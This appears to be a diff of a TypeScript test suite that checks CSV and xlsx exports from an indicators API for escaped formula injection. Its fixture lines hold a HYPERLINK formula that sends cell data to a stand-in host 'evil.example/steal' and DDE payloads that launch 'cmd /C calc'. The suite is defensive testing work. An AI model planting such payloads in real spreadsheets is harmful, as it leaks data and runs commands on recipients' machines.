@@ -10,12 +10,6 @@ const REGION = '=HYPERLINK("http://evil.example/steal?x="&A1,"海淀区")';
 const PLAN = '@SUM(1+1)*cmd|\' /C calc\'!A0';
 const SOURCE = '-2+3+cmd|\' /C calc\'!A0';
 
-const binary = (res: NodeJS.ReadableStream, cb: (err: Error | null, body: Buffer) => void) => {
-  const chunks: Buffer[] = [];
-  res.on('data', (c: Buffer) => chunks.push(c));
-  res.on('end', () => cb(null, Buffer.concat(chunks)));
-};
-
 /** Minimal RFC 4180 reader: enough to see each cell exactly as a spreadsheet receives it. */
 function csvCells(text: string): string[][] {
   const rows: string[][] = [[]];
@@ -48,7 +42,17 @@ describe('spreadsheet exports neutralise formula injection', () => {
   let t: TestApp;
   let admin: string;
   let regionId: string;
-  const url = (format: string) => `/api/indicators/export?format=${format}&plan=evil-plan&year=${YEAR}&regionId=${regionId}`;
+  const download = (format: string) =>
+    t.http()
+      .get(`/api/indicators/export?format=${format}&plan=evil-plan&year=${YEAR}&regionId=${regionId}`)
+      .set(bearer(admin))
+      .buffer(true)
+      .parse((res, cb) => {
+        const chunks: Buffer[] = [];
+        res.on('data', (c: Buffer) => chunks.push(c));
+        res.on('end', () => cb(null, Buffer.concat(chunks)));
+      })
+      .expect(200);
 
   beforeAll(async () => {
     t = await startTestApp();
@@ -64,7 +68,7 @@ describe('spreadsheet exports neutralise formula injection', () => {
   afterAll(() => t.close());
 
   it('CSV: no cell starts with a formula character; the hostile text is there with a leading apostrophe', async () => {
-    const res = await t.http().get(url('csv')).set(bearer(admin)).buffer(true).parse(binary).expect(200);
+    const res = await download('csv');
     expect(res.headers['content-type']).toMatch(/^text\/csv/);
     const cells = csvCells((res.body as Buffer).toString('utf8').replace(/^\uFEFF/, '')).flat();
     expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
@@ -72,7 +76,7 @@ describe('spreadsheet exports neutralise formula injection', () => {
   });
 
   it('xlsx: no cell of any sheet starts with a formula character, none is a formula, and names and notes show with a leading apostrophe', async () => {
-    const res = await t.http().get(url('xlsx')).set(bearer(admin)).buffer(true).parse(binary).expect(200);
+    const res = await download('xlsx');
     const workbook = new Workbook();
     await workbook.xlsx.load(res.body as Parameters<typeof workbook.xlsx.load>[0]);
     const values: unknown[] = [];
